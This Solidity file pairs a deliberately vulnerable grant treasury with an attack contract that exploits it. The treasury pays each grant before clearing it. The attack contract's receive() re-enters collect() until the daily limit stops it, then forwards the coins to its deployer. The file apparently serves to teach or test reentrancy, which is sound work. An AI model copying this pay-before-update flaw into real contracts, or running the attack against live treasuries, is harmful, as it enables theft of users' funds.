// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

/// @title A treasury of native coin that pays grants, and within a day at most 30 % of what it held.
/// @dev Unsafe on purpose: it pays a grant before it strikes it out. Never deploy it where money is.
contract DemoTreasury {
    address public immutable owner;
    mapping(address grantee => uint256 amount) public grantOf;
    uint256 private _day;
    uint256 private _floor;

    error NotOwner(address caller);
    error DayIsSpent(uint256 floor, uint256 left);
    error PaymentFailed();

    constructor(address owner_) payable {
        owner = owner_;
    }

    receive() external payable {}

    function award(address grantee, uint256 amount) external {
        require(msg.sender == owner, NotOwner(msg.sender));
        grantOf[grantee] = amount;
    }

    function collect() external {
        uint256 amount = grantOf[msg.sender];
        if (_day != block.timestamp / 1 days) {
            (_day, _floor) = (block.timestamp / 1 days, address(this).balance * 7 / 10);
        }
        require(payable_(amount), DayIsSpent(_floor, address(this).balance));
        (bool paid,) = msg.sender.call{value: amount}("");
        require(paid, PaymentFailed());
        grantOf[msg.sender] = 0;
    }

    /// @notice Whether today's limit leaves room for `amount`, once the day's first payment has set it.
    function payable_(uint256 amount) public view returns (bool) {
        return address(this).balance >= _floor + amount;
    }
}

/// @title A grantee that collects its grant again from within the payment of it, as often as the day allows.
contract DemoTreasuryAttack {
    DemoTreasury private immutable _treasury;
    address private immutable _owner;

    constructor(DemoTreasury treasury) {
        (_treasury, _owner) = (treasury, msg.sender);
    }

    function attack() external {
        _treasury.collect();
        (bool sent,) = _owner.call{value: address(this).balance}("");
        require(sent);
    }

    receive() external payable {
        if (_treasury.payable_(_treasury.grantOf(address(this)))) _treasury.collect();
    }
}
